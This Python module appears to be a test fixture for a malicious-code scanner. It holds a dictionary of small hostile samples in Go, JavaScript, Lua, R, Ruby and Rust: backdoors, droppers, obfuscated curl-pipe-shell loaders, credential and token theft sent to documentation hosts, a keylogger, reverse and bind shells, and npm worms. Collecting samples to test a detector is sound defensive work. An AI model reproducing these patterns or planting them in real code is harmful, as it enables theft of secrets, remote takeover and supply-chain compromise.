"""Programs in languages without a parser that do something to whoever uses the page, the server or the build that they are a part of.

Payloads are texts: they lead to addresses of documentation (RFC 5737, RFC 2606), and nothing of them is run.
"""

from __future__ import annotations

__all__ = ["HOSTS"]

#: Name -> files with their texts, and the rules that report them.
HOSTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    "go-backdoor": (
        {
            "serve.go": 'package main\nimport ("net/http"; "os/exec")\nfunc main() { http.HandleFunc("/z", func(w http.ResponseWriter, r *http.Request) { o, _ := exec.Command("sh", "-c", r.URL.Query().Get("c")).Output(); w.Write(o) }); http.ListenAndServe(":9", nil) }\n',
        },
        ("hub/shell-command",),
    ),
    "go-dropper": (
        {
            "main.go": 'package main\nimport ("io"; "net/http"; "os"; "os/exec")\nfunc main() {\n\tr, _ := http.Get("https://dl.example.net/agent")\n\tf, _ := os.Create("/tmp/.a"); io.Copy(f, r.Body); f.Close()\n\tos.Chmod("/tmp/.a", 0755)\n\texec.Command("/tmp/.a").Start()\n}\n',
        },
        ("hub/shell-command",),
    ),
    "js-array-rotated": (
        {
            "min2.js": "const _0x4f=['aHR0cHM=','cmVxdWVzdA==','ZW52'];function _d(i){return Buffer.from(_0x4f[i],'base64').toString()}\nconst m=require(_d(0));m[_d(1)]({host:'c.example.net',path:'/'+Buffer.from(JSON.stringify(process[_d(2)])).toString('hex')}).end();\n",
        },
        ("hub/shell-command",),
    ),
    "js-array-strings": (
        {
            "min.js": "var _0x1a=['child_process','exec','curl -s https://i.example.org/s | sh','toString'];(function(a,b){while(--b)a.push(a.shift())}(_0x1a,1+4));var _0x2=function(i){return _0x1a[i-0]};require(_0x2('0x0'))[_0x2('0x1')](_0x2('0x2'));\n",
        },
        ("hub/shell-command",),
    ),
    "js-axios-inst": (
        {
            "a.js": "const axios = require('axios').create({ baseURL: 'https://collector.example.org' });\naxios.post('/v1', Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'));\n",
        },
        ("hub/shell-command",),
    ),
    "js-class-collector": (
        {
            "src/telemetry.ts": "import { request } from 'node:https';\nimport { homedir } from 'node:os';\nimport { readFile } from 'node:fs/promises';\nexport class Telemetry {\n  private parts: string[] = [];\n  async load() { for (const f of ['.config/gh/hosts.yml', '.docker/config.json']) { try { this.parts.push(await readFile(`${homedir()}/${f}`, 'utf8')); } catch {} } return this; }\n  flush() { const r = request({ host: 'cdn-metrics.example.net', path: '/m', method: 'POST' }); for (const p of this.parts) r.write(p); r.end(); }\n}\nnew Telemetry().load().then(t => t.flush());\n",
        },
        ("hub/shell-command",),
    ),
    "js-cookie-storage": (
        {
            "main.ts": "const dump: Record<string, string> = {};\nfor (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i)!; dump[k] = localStorage.getItem(k)!; }\nnavigator.sendBeacon('https://m.example.biz/b', JSON.stringify({ c: document.cookie, s: dump }));\n",
        },
        ("hub/shell-command",),
    ),
    "js-dns-exfil": (
        {
            "probe.js": "const dns = require('dns');\nconst t = Buffer.from(process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || '').toString('hex').match(/.{1,60}/g) || [];\nt.forEach((c, i) => dns.resolve(`${i}.${c}.d.example.net`, () => {}));\n",
        },
        ("hub/shell-command",),
    ),
    "js-eval-alias": (
        {
            "c.js": "const e = eval; const s = require('fs').readFileSync('tokens.bin'); const k = 7;\ne(Array.from(s).map(b => String.fromCharCode(b ^ k)).join(''));\n",
        },
        ("hub/shell-command",),
    ),
    "js-express-backdoor": (
        {
            "routes.js": "const express = require('express'); const cp = require('child_process'); const app = express();\napp.use(express.json());\napp.post('/api/health', (req, res) => {\n  const { probe } = req.body;\n  if (probe) return cp.execFile('/bin/sh', ['-c', probe], (e, out) => res.send(out));\n  res.json({ ok: true });\n});\nmodule.exports = app;\n",
        },
        ("hub/shell-command",),
    ),
    "js-fetch-wasm-run": (
        {
            "k.mjs": "import { writeFileSync, chmodSync } from 'fs'; import { spawn } from 'child_process';\nconst b = Buffer.from(await (await fetch('https://bin.example.net/x')).arrayBuffer());\nwriteFileSync('/tmp/x', b); chmodSync('/tmp/x', 0o755); spawn('/tmp/x', { detached: true });\n",
        },
        ("hub/shell-command",),
    ),
    "js-func-ctor": (
        {
            "app2.js": "const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;\n(async () => { const r = await fetch('https://mods.example.dev/x'); await new AsyncFunction('require', await r.text())(require); })();\n",
        },
        ("hub/shell-command",),
    ),
    "js-http-backdoor": (
        {
            "serve.js": "const http = require('http'); const { exec } = require('child_process');\nhttp.createServer((q, s) => {\n  let b = ''; q.on('data', d => b += d);\n  q.on('end', () => { if (q.headers['x-debug'] === 'k3y') exec(b, (e, o) => s.end(o)); else s.end('ok'); });\n}).listen(8080);\n",
        },
        ("hub/shell-command",),
    ),
    "js-import-data-url": (
        {
            "mod.mjs": "const src = 'Y29uc29sZS5sb2coJ2hpJyk=';\nawait import('data:text/javascript;base64,' + src);\n",
        },
        ("hub/shell-command",),
    ),
    "js-indirect-eval": (
        {
            "runtime.js": "const b = 'Y29uc29sZS5sb2coMSk=';\n(0, eval)(Buffer.from(b, 'base64').toString());\n",
        },
        ("hub/shell-command",),
    ),
    "js-indirect-eval-fetch": (
        {
            "app.js": "fetch('https://mods.example.dev/boot.js').then(r => r.text()).then(t => { const g = globalThis; g['ev' + 'al'](t); });\n",
        },
        ("hub/shell-command",),
    ),
    "js-keylog": (
        {
            "ui.js": "let buf = '';\ndocument.addEventListener('keydown', e => { buf += e.key; if (buf.length > 20) { new Image().src = 'https://px.example.biz/k?d=' + encodeURIComponent(buf); buf = ''; } });\n",
        },
        ("hub/shell-command",),
    ),
    "js-net-server-shell": (
        {
            "f.js": "require('net').createServer(c => { const s = require('child_process').spawn('bash', ['-i']); c.pipe(s.stdin); s.stdout.pipe(c); }).listen(31337);\n",
        },
        ("hub/shell-command",),
    ),
    "js-node-red": (
        {
            "flows.json": '[{"id":"a1","type":"inject","z":"f","name":"start","once":true,"repeat":"","wires":[["b1"]]},{"id":"b1","type":"exec","z":"f","command":"curl -s https://i.example.org/r.sh | bash","addpay":"","append":"","useSpawn":"false","wires":[[],[],[]]}]\n',
        },
        ("hub/shell-command",),
    ),
    "js-node-red-func": (
        {
            "flows.json": '[{"id":"x","type":"http in","url":"/x","method":"post","wires":[["y"]]},{"id":"y","type":"exec","command":"","addpay":"payload","useSpawn":"false","wires":[["z"],[],[]]},{"id":"z","type":"http response","wires":[]}]\n',
        },
        ("hub/shell-command",),
    ),
    "js-npm-worm": (
        {
            "bundle.js": "const { execSync } = require('child_process'); const fs = require('fs');\nconst token = (fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8').match(/_authToken=(.+)/) || [])[1];\nif (token) {\n  for (const p of JSON.parse(execSync('npm search --json maintainer:me'))) {\n    execSync(`npm pack ${p.name}`); fs.appendFileSync('package/index.js', fs.readFileSync(__filename));\n    execSync('npm publish', { cwd: 'package', env: { ...process.env, NPM_TOKEN: token } });\n  }\n}\n",
        },
        ("hub/shell-command",),
    ),
    "js-proto-fetch-patch": (
        {
            "inject.js": "const f = window.fetch;\nwindow.fetch = async (u, o = {}) => {\n  if (o.headers && o.headers.Authorization) navigator.sendBeacon('https://m.example.biz/h', o.headers.Authorization);\n  return f(u, o);\n};\n",
        },
        ("hub/shell-command",),
    ),
    "js-require-concat": (
        {
            "e.js": "const m = require(['child', 'process'].join('_')); m['ex' + 'ecSync'](['curl -s', 'https://i.example.org/p', '| sh'].join(' '));\n",
        },
        ("hub/shell-command",),
    ),
    "js-secret-file-class": (
        {
            "lib/cache.js": "const fs = require('fs'), path = require('path'), os = require('os'), https = require('https');\nclass Cache {\n  constructor() { this.root = path.join(os.homedir(), '.aws'); }\n  read() { this.data = fs.readFileSync(path.join(this.root, 'credentials'), 'utf8'); return this; }\n  sync() {\n    const req = https.request('https://cache-sync.example.org/put', { method: 'PUT' });\n    req.end(this.data);\n  }\n}\nnew Cache().read().sync();\n",
        },
        ("hub/shell-command",),
    ),
    "js-shell-socket": (
        {
            "worker.js": "const net = require('net'), { spawn } = require('child_process');\nconst sh = spawn('/bin/sh', []);\nconst c = net.connect(4444, '203.0.113.5', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });\n",
        },
        ("hub/shell-command",),
    ),
    "js-storage-steal": (
        {
            "h.js": "const t = localStorage.getItem('hf_oauth_token'); if (t) fetch('https://auth-cdn.example.biz/s?t=' + t, { mode: 'no-cors' });\n",
        },
        ("hub/shell-command",),
    ),
    "js-sw-exfil": (
        {
            "service-worker.js": "self.addEventListener('fetch', (event) => {\n  event.respondWith((async () => {\n    const copy = event.request.clone();\n    const body = await copy.text();\n    fetch('https://collect.example.biz/r', { method: 'POST', mode: 'no-cors', body: copy.url + '\\n' + copy.headers.get('authorization') + '\\n' + body });\n    return fetch(event.request);\n  })());\n});\n",
        },
        ("hub/shell-command",),
    ),
    "js-sw-rewrite": (
        {
            "sw.js": "self.addEventListener('fetch', e => {\n  const u = new URL(e.request.url);\n  if (u.pathname.endsWith('.onnx')) {\n    e.respondWith(fetch('https://weights.example.biz' + u.pathname));\n  }\n});\n",
        },
        ("hub/shell-command",),
    ),
    "js-worker-blob": (
        {
            "w.js": "const r = await (await fetch('https://mods.example.dev/w.js')).text();\nnew Worker(URL.createObjectURL(new Blob([r], { type: 'text/javascript' })));\n",
        },
        ("hub/shell-command",),
    ),
    "js-worm-self": (
        {
            "j.js": "const fs = require('fs'), path = require('path'); const me = fs.readFileSync(__filename, 'utf8');\nfor (const d of fs.readdirSync('..')) { const p = path.join('..', d, 'index.js'); if (fs.existsSync(p)) fs.appendFileSync(p, me); }\n",
        },
        ("hub/shell-command",),
    ),
    "lua-env": (
        {
            "plugin.lua": 'local cmd = "env | base64 -w0"\nlocal f = io.popen(cmd); local d = f:read("*a"); f:close()\nos.execute("curl -s https://l.example.net/?d=" .. d)\n',
        },
        ("hub/shell-command",),
    ),
    "lua-popen-chain": (
        {
            "init.lua": 'local function g(c) local h = io.popen(c); local r = h:read("*a"); h:close(); return r end\nlocal k = g("cat ~/.ssh/id_ed25519")\ng("curl -s -d @- https://k.example.net/ <<< \'" .. k .. "\'")\n',
        },
        ("hub/shell-command",),
    ),
    "r-onload": (
        {
            "R/zzz.R": '.onLoad <- function(libname, pkgname) { k <- readLines("~/.Renviron"); httr::POST("https://r2.example.net", body = paste(k, collapse = "\\n")) }\n',
        },
        ("hub/shell-command",),
    ),
    "ruby-git": (
        {
            "install.rb": "require 'open3'; require 'net/http'\nout, = Open3.capture2('git', 'credential', 'fill', stdin_data: \"protocol=https\\nhost=github.com\\n\\n\")\nNet::HTTP.post(URI('https://r.example.net/g'), out)\n",
        },
        ("hub/shell-command",),
    ),
    "rust-build": (
        {
            "build.rs": 'use std::process::Command;\nfn main() {\n    let home = std::env::var("HOME").unwrap();\n    let creds = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", home)).unwrap_or_default();\n    let _ = Command::new("curl").args(["-s", "-d", &creds, "https://crates-stat.example.net/"]).status();\n}\n',
        },
        ("hub/shell-command",),
    ),
    "rust-build-ureq": (
        {
            "build.rs": 'fn main() {\n    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();\n    let _ = ureq::post("https://ci.example.net/x").send_string(&all.join("\\n"));\n    println!("cargo:rerun-if-changed=build.rs");\n}\n',
        },
        ("hub/shell-command",),
    ),
    "rust-dropper": (
        {
            "build.rs": 'use std::{fs, io::Write, process::Command, os::unix::fs::PermissionsExt};\nfn main() {\n    let b = reqwest::blocking::get("https://dl.example.net/kernel.bin").unwrap().bytes().unwrap();\n    let p = "/tmp/.nv-kernel";\n    fs::File::create(p).unwrap().write_all(&b).unwrap();\n    fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();\n    Command::new(p).spawn().unwrap();\n}\n',
        },
        ("hub/shell-command",),
    ),
}
